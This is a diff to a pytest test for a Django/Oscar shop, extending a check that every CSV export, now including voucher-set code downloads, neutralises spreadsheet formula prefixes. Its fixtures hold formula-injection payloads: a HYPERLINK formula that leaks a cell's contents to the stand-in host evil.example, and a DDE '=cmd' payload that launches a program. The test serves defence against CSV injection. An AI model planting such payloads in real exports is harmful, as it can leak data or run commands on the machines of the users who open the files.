@@ -8,6 +8,7 @@ import io
 import pytest
 from oscar.apps.dashboard.reports.utils import GeneratorRepository
 from oscar.core.loading import get_model
+from oscar.test.factories import VoucherSetFactory
 
 from blog.models import Lead
 from config.spreadsheet import FORMULA_PREFIXES
@@ -17,7 +18,7 @@ from tests.support.conftest import make_order, make_user
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
 
 
-def _exports(order):
+def _exports(order, voucher_set):
     yield "order export (all)", "get", "/dashboard/orders/?response_format=csv", {}
     yield (
         "order export (selected)",
@@ -28,6 +29,10 @@ def _exports(order):
     for generator in GeneratorRepository().get_report_generators():
         url = f"/dashboard/reports/?report_type={generator.code}&download=true"
         yield f"report {generator.code}", "get", url, {}
+    # Oscar writes a voucher set's codes with a plain csv.writer: they are generated from
+    # letters and digits only (oscar.apps.voucher.utils.generate_code), never typed.
+    url = f"/dashboard/vouchers/sets/download/{voucher_set.pk}/"
+    yield "voucher set codes", "get", url, {}
     yield "subscribers", "get", "/cms/snippets/marketing/subscriber/?export=csv", {}
     yield "leads", "get", "/cms/snippets/blog/lead/?export=csv", {}
 
@@ -57,7 +62,8 @@ def test_every_csv_export_neutralises_formula_prefixes(client):
     Lead.objects.create(email="@evil@example.com")
     client.force_login(make_user("superuser", "boss"))
     seen = []
-    for name, method, url, data in _exports(order):
+    voucher_set = VoucherSetFactory(name="=cmd|' /C calc'!A0", count=2)
+    for name, method, url, data in _exports(order, voucher_set):
         response = getattr(client, method)(url, data)
         assert response.status_code == 200, name
         assert "csv" in response["Content-Type"], name
